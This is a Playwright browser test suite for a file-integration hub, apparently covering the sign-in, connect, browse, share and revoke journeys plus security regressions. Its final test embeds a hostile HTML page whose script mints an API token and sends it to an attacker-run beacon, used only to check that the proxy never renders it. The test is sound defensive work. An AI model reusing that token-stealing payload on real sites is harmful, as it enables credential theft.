"""The pages in a real browser: Playwright drives Debian's Chromium against a live hub (gunicorn,
as ``make run`` serves it) and the Demo server, both real processes on loopback ports.

The journey of issue 9: sign in with the credentials ``hub init`` printed, create a Demo
integration, connect through the popup (consent page, the popup closes, the badge turns
connected), browse two levels, download a file and compare its bytes, share with another user who
then sees it, revoke every grant on the Demo server, see the badge ask for re-authorisation, and
reconnect. Also the connect flow when popups are blocked (the same window goes and comes back).

Screenshots of the main pages go to ``test-artifacts/screenshots/``. Without Playwright, Chromium
or the demo plugin the tests skip with the reason.
"""

from __future__ import annotations

import contextlib
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from .live_servers import CHROMIUM, CHROMIUM_ARGS, PASSWORD, demo_server, hub_server
from .live_servers import why_no_browser as _why_no_browser

REASON = _why_no_browser()
pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(REASON is not None, reason=REASON or ""),
]

if REASON is None:
    from playwright.sync_api import Browser, Page, expect, sync_playwright
    from playwright.sync_api import Error as PlaywrightError

ROOT = Path(__file__).resolve().parents[1]
SCREENSHOTS = ROOT / "test-artifacts" / "screenshots"
DEMO_PROVIDER = "Demo (local test server)"
TIMEOUT_MS = 15_000


# -- fixtures: one set of servers and one browser for the module -------------------------------


@pytest.fixture(scope="module")
def demo(tmp_path_factory) -> Iterator[Any]:
    with demo_server(tmp_path_factory.mktemp("demo")) as server:
        yield server


@pytest.fixture(scope="module")
def hub(tmp_path_factory, demo) -> Iterator[Any]:
    with hub_server(tmp_path_factory.mktemp("hub"), demo) as server:
        server.create_user("bob")
        server.create_user("carol")
        yield server


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with sync_playwright() as playwright:
        try:
            chromium = playwright.chromium.launch(
                executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True
            )
        except PlaywrightError as exc:
            pytest.skip(f"Chromium did not start: {exc.message.splitlines()[0]}")
        expect.set_options(timeout=TIMEOUT_MS)
        yield chromium
        chromium.close()


@pytest.fixture
def new_page(browser, hub) -> Iterator[Any]:
    """Pages in browser contexts of their own (one per user: separate cookies)."""
    contexts = []

    def make(init_script: str | None = None) -> Page:
        context = browser.new_context(
            base_url=hub.url, accept_downloads=True, viewport={"width": 1280, "height": 860}
        )
        context.set_default_timeout(TIMEOUT_MS)
        if init_script:
            context.add_init_script(init_script)
        contexts.append(context)
        return context.new_page()

    yield make
    for context in contexts:
        context.close()


# -- helpers -----------------------------------------------------------------------------------


def screenshot(page: Page, name: str) -> None:
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(SCREENSHOTS / f"{name}.png"), full_page=True)


def sign_in(page: Page, name: str, password: str, shot: str | None = None) -> None:
    page.goto("/login")
    page.get_by_label("Username").fill(name)
    page.get_by_label("Password").fill(password)
    if shot:
        screenshot(page, shot)
    page.get_by_role("button", name="Sign in").click()
    expect(page.get_by_role("button", name="Sign out")).to_be_visible()


def create_demo_integration(page: Page, name: str, shot: str | None = None) -> None:
    """From the Connections page: New integration → Demo → Create integration."""
    page.get_by_role("navigation", name="Main").get_by_role("link", name="Connections").click()
    page.get_by_role("link", name="New integration").first.click()
    page.get_by_role("radio", name=re.compile(re.escape(DEMO_PROVIDER))).check()
    page.get_by_role("button", name="Continue").click()
    expect(page.get_by_role("heading", name=f"New {DEMO_PROVIDER} integration")).to_be_visible()
    page.locator("#name").fill(name)
    if shot:
        screenshot(page, shot)
    page.get_by_role("button", name="Create integration").click()
    expect(page).to_have_url(re.compile(r"/connections$"))
    expect(badge(page, name)).to_have_attribute("data-status", "not_connected")


def row(page: Page, name: str) -> Any:
    return page.locator(f'tr[data-name="{name}"]')


def badge(page: Page, name: str) -> Any:
    return row(page, name).locator(".badge[data-status]")


def connect_in_popup(page: Page, name: str) -> None:
    """Connect (or Reconnect): the popup shows the Demo server's consent page; Allow closes it,
    and the opener swaps the row in."""
    with page.expect_popup() as opened:
        row(page, name).locator("a[data-connect]").click()
    popup = opened.value
    expect(popup.get_by_role("heading", name="Allow access?")).to_be_visible()
    with popup.expect_event("close"):
        popup.get_by_role("button", name="Allow").click()
    expect(badge(page, name)).to_have_attribute("data-status", "connected")
    expect(badge(page, name)).to_have_text("Connected")


# -- the journey -------------------------------------------------------------------------------


def test_a_new_user_connects_browses_downloads_shares_and_reconnects(new_page, hub, demo):
    from hub_demo.server import FILES

    page = new_page()
    sign_in(page, hub.admin_name, hub.admin_password, shot="01-sign-in")
    screenshot(page, "02-connections-empty")

    create_demo_integration(page, "Demo files", shot="03-integration-form")
    connect_in_popup(page, "Demo files")
    screenshot(page, "04-connections-connected")

    # Browse two levels and download a file.
    row(page, "Demo files").get_by_role("link", name="Browse").click()
    page.get_by_role("link", name=re.compile("^Files")).click()
    expect(page.locator("tbody[data-rows] tr")).not_to_have_count(0)
    screenshot(page, "05-browse-files")
    page.get_by_role("link", name="Reports", exact=True).click()
    page.get_by_role("link", name="2026", exact=True).click()
    crumbs = page.locator("nav.crumbs")
    expect(crumbs).to_contain_text("Reports")
    expect(crumbs.locator('[aria-current="page"]')).to_have_text("2026")
    screenshot(page, "06-browse-two-levels")
    with page.expect_download() as downloading:
        page.get_by_role("link", name="Download report.csv").click()
    download = downloading.value
    assert download.suggested_filename == "report.csv"
    assert Path(download.path()).read_bytes() == FILES["Reports/2026/report.csv"][1]

    page.get_by_role("navigation", name="Main").get_by_role("link", name="Sources").click()
    expect(page.get_by_role("heading", name="Sources")).to_be_visible()
    screenshot(page, "07-sources")

    # Share with bob, who then sees it.
    page.get_by_role("navigation", name="Main").get_by_role("link", name="Connections").click()
    row(page, "Demo files").get_by_role("link", name="Share").click()
    page.get_by_label("User or team name").fill("bob")
    page.get_by_label("Access", exact=True).select_option("use")
    page.get_by_role("button", name="Share", exact=True).click()
    expect(page.locator('tr[data-principal="bob"]')).to_be_visible()
    screenshot(page, "08-sharing")

    bob = new_page()
    sign_in(bob, "bob", PASSWORD)
    bob.get_by_role("navigation", name="Main").get_by_role("link", name="Connections").click()
    expect(row(bob, "Demo files")).to_be_visible()
    expect(badge(bob, "Demo files")).to_have_attribute("data-status", "not_connected")
    screenshot(bob, "09-connections-shared-with-bob")

    page.get_by_role("navigation", name="Main").get_by_role("link", name="Account").click()
    expect(page.get_by_role("heading", name="Your account")).to_be_visible()
    screenshot(page, "10-account")
    page.get_by_role("navigation", name="Main").get_by_role("link", name="Admin").click()
    expect(page.get_by_role("heading", name="Administration")).to_be_visible()
    screenshot(page, "11-admin")

    # The Demo server revokes every grant; the hub notices on the next refresh.
    server_page = new_page()
    server_page.goto(demo.url + "/")
    server_page.get_by_role("button", name="Revoke every grant").click()
    expect(server_page.get_by_text("grant(s) revoked")).to_be_visible()

    page.get_by_role("navigation", name="Main").get_by_role("link", name="Connections").click()
    row(page, "Demo files").get_by_role("button", name="Refresh").click()
    expect(badge(page, "Demo files")).to_have_attribute("data-status", "needs_reauth")
    expect(badge(page, "Demo files")).to_have_text("Needs re-authorisation")
    screenshot(page, "12-connections-needs-reauth")

    connect_in_popup(page, "Demo files")
    row(page, "Demo files").get_by_role("link", name="Browse").click()
    page.get_by_role("link", name=re.compile("^Files")).click()
    expect(page.get_by_role("link", name="Photos", exact=True)).to_be_visible()


def test_connecting_works_in_the_same_window_when_popups_are_blocked(new_page, hub):
    page = new_page(init_script="window.open = function () { return null; };")
    sign_in(page, "carol", PASSWORD)
    create_demo_integration(page, "Carol's demo")

    row(page, "Carol's demo").locator("a[data-connect]").click()
    expect(page.get_by_role("heading", name="Allow access?")).to_be_visible()
    assert page.url.startswith(hub.environment["HUB_DEMO_URL"])
    page.get_by_role("button", name="Allow").click()

    expect(page).to_have_url(re.compile(r"/connections$"))
    expect(badge(page, "Carol's demo")).to_have_attribute("data-status", "connected")
    assert len(page.context.pages) == 1


def test_a_user_searches_opens_a_results_folder_and_sees_thumbnails(new_page, hub):
    page = new_page()
    sign_in(page, "bob", PASSWORD)
    create_demo_integration(page, "Bob's demo")
    connect_in_popup(page, "Bob's demo")
    row(page, "Bob's demo").get_by_role("link", name="Browse").click()
    page.get_by_role("link", name=re.compile("^Files")).click()

    page.get_by_role("searchbox", name="Search Files").fill("sea")
    page.get_by_role("button", name="Search").click()
    expect(page.get_by_role("heading", name="Results for “sea”")).to_be_visible()
    results = page.locator("tbody[data-rows] tr")
    expect(results).to_have_count(1)
    expect(results.first).to_contain_text("sea.png")
    screenshot(page, "13-search-results")

    results.first.get_by_role("link", name="Photos").click()
    expect(page.locator("nav.crumbs [aria-current=page]")).to_have_text("Photos")
    pictures = page.get_by_role("region", name="Pictures").locator("img")
    expect(pictures).to_have_count(3)
    for index in range(3):
        picture = pictures.nth(index)
        picture.scroll_into_view_if_needed()
        expect(picture).to_have_js_property("complete", True)
        assert picture.evaluate("img => img.naturalWidth") > 0
    screenshot(page, "14-thumbnails")

    page.get_by_role("link", name="Recent").click()
    expect(page.get_by_role("heading", name="Recent")).to_be_visible()
    expect(page.locator("tbody[data-rows]")).to_contain_text("report.csv")


# -- a provider's page never runs in the hub's origin (SECURITY 28) -----------------------------


def test_a_failed_callback_keeps_no_code_in_the_address_bar(new_page, hub):
    """SECURITY 7: a callback that fails (here, a state nobody started) shows its page without
    the code and state in the URL the user sees or in the history."""
    hub.create_user("dora")
    page = new_page()
    sign_in(page, "dora", PASSWORD)

    answer = page.goto("/oauth2/callback?code=secret-code-123&state=made-up-state")

    assert answer.status == 400
    expect(page.get_by_role("heading", name="Not connected")).to_be_visible()
    page.wait_for_function("() => !window.location.search")
    assert "secret-code-123" not in page.url and "made-up-state" not in page.url
    page.go_back()
    page.go_forward()  # the history entry itself was rewritten
    assert "secret-code-123" not in page.url


def test_a_providers_page_opened_through_the_proxy_runs_nothing(new_page, hub):
    """Mallory points an integration at her own server and shares it with the administrator;
    her page's script would mint an API token for whoever opens it. The administrator's browser
    opens the proxy URL: the page is downloaded, never rendered at the hub's address, no token
    is made, nothing calls back; her redirect is not followed either."""
    import requests

    from .hostile import Upstream

    upstream = Upstream()
    try:
        beacon = f"{upstream.base}/ran"
        html = f"""<!doctype html><html><head><title>Quarterly report</title></head><body>
<img src="{beacon}?img">
<script>
document.title = "script ran";
new Image().src = "{beacon}?script";
fetch("/api/tokens", {{method: "POST", headers: {{"Content-Type": "application/json"}},
                       body: JSON.stringify({{name: "stolen"}})}})
  .then((answer) => answer.json())
  .then((made) => fetch("{beacon}?token=" + encodeURIComponent(made.token), {{mode: "no-cors"}}));
</script></body></html>""".encode()
        upstream.answer(
            "report",
            headers={
                "Content-Type": "text/html; charset=utf-8",
                "Content-Security-Policy": "default-src * 'unsafe-inline'",
                "Access-Control-Allow-Origin": "*",
                "Content-Disposition": "inline",
            },
            body=html,
        )
        upstream.answer("go", status=302, headers={"Location": f"{beacon}?redirect"})

        hub.create_user("mallory")
        mallory = requests.Session()
        signed = mallory.post(
            f"{hub.url}/api/login", json={"username": "mallory", "password": PASSWORD}
        )
        assert signed.status_code == 200, signed.text
        created = mallory.post(
            f"{hub.url}/api/integrations",
            json={
                "name": "Quarterly reports",
                "authType": "bearer",
                "apiBaseUri": upstream.base,
                "connectionMode": "shared",
            },
        )
        assert created.status_code == 201, created.text
        ref = created.json()["id"]
        credential = mallory.post(
            f"{hub.url}/api/integrations/{ref}/connection", json={"token": "mallory-tok"}
        )
        assert credential.status_code == 200, credential.text
        shared = mallory.put(
            f"{hub.url}/api/integrations/{ref}/shares/{hub.admin_name}", json={"access": "use"}
        )
        assert shared.status_code == 200, shared.text

        page = new_page()
        sign_in(page, hub.admin_name, hub.admin_password)
        tokens = f"{hub.url}/api/tokens"
        before = page.request.get(tokens).json()["items"]
        downloads: list[Any] = []
        page.on("download", lambda download: downloads.append(download))

        # A download ends the navigation with an error; a rendered page would not.
        with contextlib.suppress(PlaywrightError):
            page.goto(f"/api/integrations/{ref}/proxy/report")
        page.wait_for_timeout(1500)  # time for a script, had one run, to act and call back
        assert page.title() != "script ran"
        assert page.request.get(tokens).json()["items"] == before  # no token was made
        assert [seen["path"] for seen in upstream.seen] == ["/base/report"]  # no call back
        assert len(downloads) == 1  # the page was saved as a file, not shown
        assert Path(downloads[0].path()).read_bytes() == html

        answer = page.goto(f"/api/integrations/{ref}/proxy/go")
        assert answer is not None and answer.status == 502
        assert page.url == f"{hub.url}/api/integrations/{ref}/proxy/go"  # not redirected
        assert "upstream_redirect" in page.content()
        assert [seen["path"] for seen in upstream.seen] == ["/base/report", "/base/go"]
    finally:
        upstream.stop()
